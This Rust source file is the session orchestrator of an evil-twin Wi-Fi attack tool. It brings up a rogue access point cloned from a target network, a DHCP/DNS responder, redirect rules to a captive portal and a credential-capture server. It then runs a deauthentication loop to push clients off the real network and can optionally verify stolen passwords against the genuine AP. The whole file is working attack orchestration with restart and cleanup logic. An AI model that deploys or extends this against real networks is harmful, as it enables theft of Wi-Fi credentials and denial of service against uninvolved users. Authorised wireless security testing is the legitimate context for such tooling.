//! The session state machine and orchestrator.
//!
//! A session moves `Init -> Allocating -> StartingServices -> Attacking ->
//! Stopping -> {Done, Failed}`. Any error during allocation or service
//! startup aborts before a single attack action is taken; health failures
//! during the attack get one restart attempt; cancellation and internal
//! failure route through the same teardown path. Teardown is claimed by a
//! phase compare-and-set, so exactly one context unwinds the cleanup stack.

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::Serialize;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use tracing::{error, info, warn};

use crate::alloc::{allocate, Allocation, RoleRequest};
use crate::capture::{CaptureLauncher, CaptureServerHandle};
use crate::cleanup::{CleanupAction, CleanupStack};
use crate::config::OrchestratorConfig;
use crate::deauth::{run_deauth_loop, DeauthConfig};
use crate::error::{
    AllocationError, CleanupFailure, ServiceHealthError, ServiceStartError, SessionError,
};
use crate::redirect::{evil_twin_rules, TrafficRedirector};
use crate::runner::{
    ApNetwork, ClientResolver, ConfigWriter, DeauthSender, LinkController, NetworkRuleEngine,
    ProcessRunner, Readiness, WifiConnector, WirelessCapabilityProbe,
};
use crate::snapshot::{write_snapshot, SessionSnapshot};
use crate::store::CredentialLog;
use crate::supervise::{HealthPolicy, ServiceHandle, ServiceSpec, ServiceSupervisor};
use crate::types::{
    CapturedCredential, Phase, PhaseCell, Role, ServiceKind, SessionId, TargetAp,
    VerificationStatus,
};
use crate::verify::{spawn_verifier, VerifierConfig};

/// Every system seam the orchestrator needs, bundled for injection.
#[derive(Clone)]
pub struct Collaborators {
    pub runner: Arc<dyn ProcessRunner>,
    pub probe: Arc<dyn WirelessCapabilityProbe>,
    pub config_writer: Arc<dyn ConfigWriter>,
    pub rule_engine: Arc<dyn NetworkRuleEngine>,
    pub link: Arc<dyn LinkController>,
    pub deauth: Arc<dyn DeauthSender>,
    pub connector: Arc<dyn WifiConnector>,
    pub resolver: Arc<dyn ClientResolver>,
    pub capture: Arc<dyn CaptureLauncher>,
}

/// Per-session request options.
#[derive(Clone)]
pub struct SessionOptions {
    pub roles: Vec<RoleRequest>,
    pub verify: bool,
    pub deauth_clients: Vec<String>,
    pub deauth_interval: Option<Duration>,
    pub portal_port: Option<u16>,
    pub network: ApNetwork,
}

impl Default for SessionOptions {
    fn default() -> Self {
        Self {
            roles: vec![RoleRequest::auto(Role::Ap), RoleRequest::auto(Role::Deauth)],
            verify: false,
            deauth_clients: Vec::new(),
            deauth_interval: None,
            portal_port: None,
            network: ApNetwork::default(),
        }
    }
}

/// User-visible session status.
#[derive(Debug, Clone, Serialize)]
pub struct SessionStatus {
    pub id: SessionId,
    pub phase: Phase,
    pub last_error: Option<String>,
    pub pending_cleanup: usize,
    pub failed_cleanup: usize,
}

#[derive(Default)]
struct SessionRuntime {
    services: HashMap<ServiceKind, ServiceHandle>,
    capture: Option<CaptureServerHandle>,
    deauth_task: Option<JoinHandle<Result<(), ServiceHealthError>>>,
    verify_task: Option<JoinHandle<()>>,
    deauth_spec: Option<(String, DeauthConfig)>,
    restarted: HashMap<ServiceKind, Instant>,
    deauth_restarted: Option<Instant>,
}

#[derive(Default)]
struct SessionMeta {
    assignments: Vec<crate::types::RoleAssignment>,
    warnings: Vec<String>,
    last_error: Option<String>,
    cleanup_log: Vec<String>,
    cleanup_failures: Vec<CleanupFailure>,
    ended_at: Option<DateTime<Utc>>,
}

struct SessionInner {
    id: SessionId,
    target: TargetAp,
    phase: PhaseCell,
    started_at: DateTime<Utc>,
    cancel: CancellationToken,
    cleanup: CleanupStack,
    log: Arc<CredentialLog>,
    runtime: tokio::sync::Mutex<SessionRuntime>,
    meta: std::sync::Mutex<SessionMeta>,
    finished_tx: watch::Sender<bool>,
    finished_rx: watch::Receiver<bool>,
}

impl SessionInner {
    fn push_warning(&self, warning: String) {
        warn!(session = %self.id, "{warning}");
        self.meta
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .warnings
            .push(warning);
    }

    fn set_last_error(&self, message: String) {
        self.meta
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .last_error = Some(message);
    }

    async fn wait_finished(&self) {
        let mut rx = self.finished_rx.clone();
        let _ = rx.wait_for(|finished| *finished).await;
    }

    /// Record an executed cleanup step, in execution order.
    fn log_cleanup(&self, label: &str) {
        self.meta
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .cleanup_log
            .push(label.to_string());
    }
}

/// Shared machinery driving every session: configuration, collaborators,
/// the service supervisor, and the traffic redirector.
struct SessionDriver {
    config: OrchestratorConfig,
    deps: Collaborators,
    supervisor: ServiceSupervisor,
    redirector: TrafficRedirector,
}

/// Registry of sessions plus the entry points exposed to callers.
pub struct Orchestrator {
    driver: Arc<SessionDriver>,
    sessions: std::sync::Mutex<HashMap<SessionId, Arc<SessionInner>>>,
}

impl Orchestrator {
    pub fn new(config: OrchestratorConfig, deps: Collaborators) -> Self {
        let supervisor = ServiceSupervisor::new(
            Arc::clone(&deps.runner),
            HealthPolicy {
                failures: config.health_failures,
                window: config.health_window,
            },
        );
        let redirector = TrafficRedirector::new(Arc::clone(&deps.rule_engine));
        Self {
            driver: Arc::new(SessionDriver {
                config,
                deps,
                supervisor,
                redirector,
            }),
            sessions: std::sync::Mutex::new(HashMap::new()),
        }
    }

    pub fn config(&self) -> &OrchestratorConfig {
        &self.driver.config
    }

    /// Create a session and drive it to `Attacking`. Returns once the
    /// attack tasks are running, or after cleanup when setup failed.
    pub async fn start_session(
        &self,
        target: TargetAp,
        options: SessionOptions,
    ) -> Result<SessionId, SessionError> {
        target
            .validate()
            .map_err(SessionError::Setup)?;

        let log = CredentialLog::open(&self.driver.config.captures_dir()).await?;
        let (finished_tx, finished_rx) = watch::channel(false);
        let inner = Arc::new(SessionInner {
            id: SessionId::generate(),
            target,
            phase: PhaseCell::new(Phase::Init),
            started_at: Utc::now(),
            cancel: CancellationToken::new(),
            cleanup: CleanupStack::new(),
            log: Arc::new(log),
            runtime: tokio::sync::Mutex::new(SessionRuntime::default()),
            meta: std::sync::Mutex::new(SessionMeta::default()),
            finished_tx,
            finished_rx,
        });
        self.sessions
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .insert(inner.id.clone(), Arc::clone(&inner));

        info!(session = %inner.id, ssid = %inner.target.ssid, bssid = %inner.target.bssid, "session created");

        match self.driver.run_setup(&inner, &options).await {
            Ok(()) => {
                SessionDriver::spawn_watchdog(Arc::clone(&self.driver), Arc::clone(&inner));
                info!(session = %inner.id, "session attacking");
                Ok(inner.id.clone())
            }
            Err(err) => {
                let message = err.to_string();
                error!(session = %inner.id, error = %message, "session setup failed");
                self.driver.teardown(&inner, Some(message)).await;
                Err(err)
            }
        }
    }

    /// Cancel a session and block until its cleanup completes.
    pub async fn stop_session(&self, id: &SessionId) -> Result<SessionStatus, SessionError> {
        let inner = self.get(id)?;
        info!(session = %id, "stop requested");
        self.driver.teardown(&inner, None).await;
        Ok(self.status_of(&inner))
    }

    pub fn session_status(&self, id: &SessionId) -> Result<SessionStatus, SessionError> {
        Ok(self.status_of(&self.get(id)?))
    }

    /// Captured credentials in arrival order.
    pub async fn captured_credentials(
        &self,
        id: &SessionId,
    ) -> Result<Vec<CapturedCredential>, SessionError> {
        Ok(self.get(id)?.log.records().await)
    }

    /// Wait until the session reaches a terminal phase.
    pub async fn wait_terminal(&self, id: &SessionId) -> Result<SessionStatus, SessionError> {
        let inner = self.get(id)?;
        inner.wait_finished().await;
        Ok(self.status_of(&inner))
    }

    /// Executed cleanup labels, in execution order (post-mortem checks).
    pub fn cleanup_log(&self, id: &SessionId) -> Result<Vec<String>, SessionError> {
        let inner = self.get(id)?;
        let meta = inner.meta.lock().unwrap_or_else(|e| e.into_inner());
        Ok(meta.cleanup_log.clone())
    }

    fn get(&self, id: &SessionId) -> Result<Arc<SessionInner>, SessionError> {
        self.sessions
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .get(id)
            .cloned()
            .ok_or_else(|| SessionError::UnknownSession(id.clone()))
    }

    fn status_of(&self, inner: &Arc<SessionInner>) -> SessionStatus {
        let meta = inner.meta.lock().unwrap_or_else(|e| e.into_inner());
        SessionStatus {
            id: inner.id.clone(),
            phase: inner.phase.load(),
            last_error: meta.last_error.clone(),
            pending_cleanup: inner.cleanup.len(),
            failed_cleanup: meta.cleanup_failures.len(),
        }
    }
}

impl SessionDriver {
    /// Allocation, ordered service startup, and attack-task spawn.
    async fn run_setup(
        &self,
        inner: &Arc<SessionInner>,
        options: &SessionOptions,
    ) -> Result<(), SessionError> {
        inner.phase.transition(Phase::Init, Phase::Allocating);
        self.snapshot(inner);

        let interfaces = self
            .deps
            .probe
            .interfaces()
            .map_err(|err| AllocationError::Probe(err.to_string()))?;
        let allocation = allocate(&options.roles, &interfaces)?;
        {
            let mut meta = inner.meta.lock().unwrap_or_else(|e| e.into_inner());
            meta.assignments = allocation.assignments.clone();
            meta.warnings.extend(allocation.warnings.clone());
        }
        for warning in &allocation.warnings {
            warn!(session = %inner.id, "{warning}");
        }
        info!(
            session = %inner.id,
            assignments = ?allocation.assignments,
            "interfaces allocated"
        );

        inner
            .phase
            .transition(Phase::Allocating, Phase::StartingServices);
        self.snapshot(inner);

        self.start_services(inner, options, &allocation).await?;

        inner
            .phase
            .transition(Phase::StartingServices, Phase::Attacking);
        self.snapshot(inner);

        self.spawn_attack_tasks(inner, options, &allocation).await;
        Ok(())
    }

    /// Dependency-ordered startup: AP, then DHCP/DNS, then traffic rules,
    /// then the capture server. Each success registers its cleanup action
    /// before the next step begins.
    async fn start_services(
        &self,
        inner: &Arc<SessionInner>,
        options: &SessionOptions,
        allocation: &Allocation,
    ) -> Result<(), SessionError> {
        let ap_iface = allocation
            .interface_for(Role::Ap)
            .ok_or_else(|| SessionError::Setup("no AP role in allocation".to_string()))?
            .to_string();
        let network = &options.network;

        self.deps
            .link
            .assign_address(&ap_iface, &network.gateway_cidr())
            .map_err(|err| {
                SessionError::Setup(format!("assigning {} to {}: {}", network.gateway_cidr(), ap_iface, err))
            })?;
        inner.cleanup.push(
            format!("flush addresses on {ap_iface}"),
            CleanupAction::FlushAddresses(ap_iface.clone()),
        );

        // Rogue access point.
        let (ap_config, ap_readiness) = self
            .deps
            .config_writer
            .access_point_config(&inner.target, &ap_iface)
            .map_err(|err| ServiceStartError::Config {
                service: ServiceKind::AccessPoint,
                message: err.to_string(),
            })?;
        let ap_command = self.deps.config_writer.access_point_command(&ap_config);
        let ap_handle = self
            .supervisor
            .start(self.service_spec(ServiceKind::AccessPoint, ap_command, ap_readiness))
            .await?;
        inner.runtime.lock().await.services.insert(ServiceKind::AccessPoint, ap_handle);
        inner.cleanup.push(
            "stop access-point service",
            CleanupAction::StopService(ServiceKind::AccessPoint),
        );

        // DHCP/DNS responder, only after the AP is up.
        let dhcp_config = self
            .deps
            .config_writer
            .dhcp_dns_config(&ap_iface, network)
            .map_err(|err| ServiceStartError::Config {
                service: ServiceKind::DhcpDns,
                message: err.to_string(),
            })?;
        let dhcp_command = self.deps.config_writer.dhcp_dns_command(&dhcp_config);
        let dhcp_readiness = Readiness::TcpPort(SocketAddr::new(
            IpAddr::V4(network.gateway),
            53,
        ));
        let dhcp_handle = self
            .supervisor
            .start(self.service_spec(ServiceKind::DhcpDns, dhcp_command, dhcp_readiness))
            .await?;
        inner.runtime.lock().await.services.insert(ServiceKind::DhcpDns, dhcp_handle);
        inner.cleanup.push(
            "stop dhcp-dns service",
            CleanupAction::StopService(ServiceKind::DhcpDns),
        );

        // Traffic redirection, only after both services hold the network.
        let portal_port = options.portal_port.unwrap_or(self.config.portal_port);
        let internet_iface = allocation.interface_for(Role::Internet);
        if internet_iface.is_none() {
            inner.push_warning(
                "no internet uplink assigned: clients get no forwarded traffic".to_string(),
            );
        }
        let uplink = internet_iface.unwrap_or(ap_iface.as_str());
        let rules = evil_twin_rules(&ap_iface, uplink, network.gateway, portal_port);
        let token = self
            .redirector
            .apply(rules, internet_iface.is_some())?;
        inner
            .cleanup
            .push("revert traffic rules", CleanupAction::RevertRules(token));

        // Credential capture endpoint.
        let bind = SocketAddr::new(IpAddr::V4(network.gateway), portal_port);
        let capture = self
            .deps
            .capture
            .launch(bind, Arc::clone(&inner.log), Arc::clone(&self.deps.resolver))
            .map_err(|err| SessionError::Setup(format!("starting capture server: {err}")))?;
        info!(session = %inner.id, addr = %capture.local_addr, "capture server listening");
        inner.runtime.lock().await.capture = Some(capture);
        inner
            .cleanup
            .push("stop capture server", CleanupAction::StopCapture);

        Ok(())
    }

    fn service_spec(
        &self,
        kind: ServiceKind,
        command: crate::runner::ServiceCommand,
        readiness: Readiness,
    ) -> ServiceSpec {
        let process_name = std::path::Path::new(&command.program)
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_else(|| command.program.clone());
        ServiceSpec {
            kind,
            process_name,
            command,
            readiness,
            start_timeout: self.config.start_timeout,
            readiness_poll: self.config.readiness_poll,
            stop_grace: self.config.stop_grace,
            stop_force: self.config.stop_force,
        }
    }

    /// Deauth loop and (optionally) the verifier; both cancel with the
    /// session token and may run in any relative order.
    async fn spawn_attack_tasks(
        &self,
        inner: &Arc<SessionInner>,
        options: &SessionOptions,
        allocation: &Allocation,
    ) {
        let mut runtime = inner.runtime.lock().await;

        match allocation.interface_for(Role::Deauth) {
            Some(deauth_iface) => {
                let deauth_config = DeauthConfig {
                    interval: options.deauth_interval.unwrap_or(self.config.deauth_interval),
                    clients: options.deauth_clients.clone(),
                    failure_threshold: self.config.deauth_failures,
                };
                runtime.deauth_spec = Some((deauth_iface.to_string(), deauth_config.clone()));
                runtime.deauth_task = Some(tokio::spawn(run_deauth_loop(
                    Arc::clone(&self.deps.deauth),
                    deauth_iface.to_string(),
                    inner.target.clone(),
                    deauth_config,
                    inner.cancel.child_token(),
                )));
            }
            None => {
                inner.push_warning("no deauth interface assigned: deauthentication disabled".to_string());
            }
        }

        if options.verify {
            let verify_iface = allocation
                .assignments
                .iter()
                .find(|a| a.role == Role::Verify);
            match verify_iface {
                Some(assignment) if !assignment.degraded => {
                    runtime.verify_task = Some(spawn_verifier(
                        Arc::clone(&self.deps.connector),
                        VerifierConfig {
                            interface: assignment.interface.clone(),
                            attempt_timeout: self.config.verify_timeout,
                        },
                        inner.target.clone(),
                        Arc::clone(&inner.log),
                        inner.cancel.child_token(),
                    ));
                }
                Some(assignment) => {
                    inner.push_warning(format!(
                        "verify interface {} is shared with another role: verification skipped",
                        assignment.interface
                    ));
                    runtime.verify_task =
                        Some(spawn_skip_marker(Arc::clone(&inner.log), inner.cancel.child_token()));
                }
                None => {
                    inner.push_warning(format!(
                        "verification requested but skipped: {}",
                        crate::error::VerificationError::NoInterface
                    ));
                    runtime.verify_task =
                        Some(spawn_skip_marker(Arc::clone(&inner.log), inner.cancel.child_token()));
                }
            }
        }
    }

    /// Health watchdog: ticks liveness probes, applies the
    /// restart-once-then-abort policy, and watches the deauth loop.
    fn spawn_watchdog(driver: Arc<SessionDriver>, inner: Arc<SessionInner>) {
        tokio::spawn(async move {
            let mut ticker = tokio::time::interval(driver.config.health_tick);
            ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
            loop {
                tokio::select! {
                    _ = inner.cancel.cancelled() => return,
                    _ = ticker.tick() => {
                        if let Some(reason) = driver.watchdog_tick(&inner).await {
                            error!(session = %inner.id, error = %reason, "session aborting");
                            driver.teardown(&inner, Some(reason)).await;
                            return;
                        }
                    }
                }
            }
        });
    }

    /// One watchdog pass. Returns the abort reason, if any.
    async fn watchdog_tick(&self, inner: &Arc<SessionInner>) -> Option<String> {
        let mut runtime = inner.runtime.lock().await;

        for kind in [ServiceKind::AccessPoint, ServiceKind::DhcpDns] {
            let Some(handle) = runtime.services.get_mut(&kind) else {
                continue;
            };
            let Err(health_err) = self.supervisor.health_check(handle) else {
                continue;
            };
            warn!(session = %inner.id, service = %kind, error = %health_err, "service health failure");

            let recently_restarted = runtime
                .restarted
                .get(&kind)
                .map(|at| at.elapsed() < self.config.restart_window)
                .unwrap_or(false);
            if recently_restarted {
                return Some(format!(
                    "{kind} failed again within the restart window: {health_err}"
                ));
            }

            let Some(handle) = runtime.services.get_mut(&kind) else {
                continue;
            };
            match self.supervisor.restart(handle).await {
                Ok(()) => {
                    info!(session = %inner.id, service = %kind, "service restarted after health failure");
                    runtime.restarted.insert(kind, Instant::now());
                }
                Err(start_err) => {
                    return Some(format!("{kind} restart failed: {start_err}"));
                }
            }
        }

        // The deauth loop surfaces its failure through its join handle.
        let deauth_finished = runtime
            .deauth_task
            .as_ref()
            .map(|t| t.is_finished())
            .unwrap_or(false);
        if deauth_finished {
            let Some(task) = runtime.deauth_task.take() else {
                return None;
            };
            match task.await {
                Ok(Ok(())) => {} // cancelled cleanly
                Ok(Err(health_err)) => {
                    let recently = runtime
                        .deauth_restarted
                        .map(|at| at.elapsed() < self.config.restart_window)
                        .unwrap_or(false);
                    if recently {
                        return Some(format!(
                            "deauth loop failed again within the restart window: {health_err}"
                        ));
                    }
                    let Some((iface, config)) = runtime.deauth_spec.clone() else {
                        return Some(health_err.to_string());
                    };
                    warn!(session = %inner.id, error = %health_err, "restarting deauth loop");
                    runtime.deauth_restarted = Some(Instant::now());
                    runtime.deauth_task = Some(tokio::spawn(run_deauth_loop(
                        Arc::clone(&self.deps.deauth),
                        iface,
                        inner.target.clone(),
                        config,
                        inner.cancel.child_token(),
                    )));
                }
                Err(join_err) => {
                    return Some(format!("deauth task panicked: {join_err}"));
                }
            }
        }

        None
    }

    /// The single teardown path. The phase CAS admits exactly one caller;
    /// everyone else waits for that caller to finish.
    async fn teardown(&self, inner: &Arc<SessionInner>, error: Option<String>) {
        if !inner.phase.begin_stopping() {
            inner.wait_finished().await;
            return;
        }

        let failed = error.is_some();
        if let Some(message) = error {
            inner.set_last_error(message);
        }
        info!(session = %inner.id, "stopping session");
        self.snapshot(inner);

        inner.cancel.cancel();

        // Join the attack tasks first; the deauth loop exits within one
        // interval of cancellation.
        {
            let mut runtime = inner.runtime.lock().await;
            if let Some(task) = runtime.deauth_task.take() {
                let deadline = self.config.deauth_interval + Duration::from_secs(1);
                if tokio::time::timeout(deadline, task).await.is_err() {
                    warn!(session = %inner.id, "deauth task did not exit in time");
                }
            }
            if let Some(task) = runtime.verify_task.take() {
                if tokio::time::timeout(Duration::from_secs(2), task).await.is_err() {
                    warn!(session = %inner.id, "verify task did not exit in time");
                }
            }
        }

        // Unwind the cleanup stack, newest first. Failures are collected;
        // every remaining action still runs.
        let entries = inner.cleanup.drain_lifo();
        let mut failures: Vec<CleanupFailure> = Vec::new();
        for entry in entries {
            info!(session = %inner.id, step = %entry.label, "cleanup");
            inner.log_cleanup(&entry.label);
            match entry.action {
                CleanupAction::StopService(kind) => {
                    let handle = inner.runtime.lock().await.services.remove(&kind);
                    if let Some(mut handle) = handle {
                        self.supervisor.stop(&mut handle).await;
                    }
                }
                CleanupAction::StopCapture => {
                    let capture = inner.runtime.lock().await.capture.take();
                    if let Some(capture) = capture {
                        if let Some(failure) = capture.stop(self.config.stop_deadline()).await {
                            failures.push(failure);
                        }
                    }
                }
                CleanupAction::RevertRules(token) => {
                    failures.extend(self.redirector.revert(token));
                }
                CleanupAction::FlushAddresses(iface) => {
                    if let Err(err) = self.deps.link.flush_addresses(&iface) {
                        failures.push(CleanupFailure::new(
                            format!("flush addresses on {iface}"),
                            err.to_string(),
                        ));
                    }
                }
            }
        }

        let terminal = {
            let mut meta = inner.meta.lock().unwrap_or_else(|e| e.into_inner());
            meta.cleanup_failures.extend(failures);
            meta.ended_at = Some(Utc::now());
            if failed || !meta.cleanup_failures.is_empty() {
                Phase::Failed
            } else {
                Phase::Done
            }
        };
        inner.phase.finish(terminal);
        self.snapshot(inner);
        info!(session = %inner.id, terminal = %terminal, "session finished");
        let _ = inner.finished_tx.send(true);
    }

    fn snapshot(&self, inner: &Arc<SessionInner>) {
        let snapshot = {
            let meta = inner.meta.lock().unwrap_or_else(|e| e.into_inner());
            SessionSnapshot {
                id: inner.id.clone(),
                phase: inner.phase.load(),
                target: inner.target.clone(),
                assignments: meta.assignments.clone(),
                warnings: meta.warnings.clone(),
                started_at: inner.started_at,
                ended_at: meta.ended_at,
                last_error: meta.last_error.clone(),
                cleanup_failures: meta.cleanup_failures.clone(),
            }
        };
        let dir = self.config.runtime_dir.join("sessions");
        write_snapshot(&dir.join(format!("{}.json", inner.id)), &snapshot);
        write_snapshot(&self.config.snapshot_path(), &snapshot);
    }
}

/// When verification cannot run at all, every capture is settled as
/// `Skipped` so records never sit in `Pending` forever.
fn spawn_skip_marker(log: Arc<CredentialLog>, cancel: CancellationToken) -> JoinHandle<()> {
    tokio::spawn(async move {
        let mut events = log.subscribe();
        loop {
            tokio::select! {
                _ = cancel.cancelled() => return,
                event = events.recv() => {
                    let record = match event {
                        Ok(record) => record,
                        Err(tokio::sync::broadcast::error::RecvError::Lagged(_)) => continue,
                        Err(tokio::sync::broadcast::error::RecvError::Closed) => return,
                    };
                    if let Err(err) = log
                        .set_verification(record.seq, VerificationStatus::Skipped)
                        .await
                    {
                        warn!(seq = record.seq, error = %err, "failed to mark capture skipped");
                    }
                }
            }
        }
    })
}
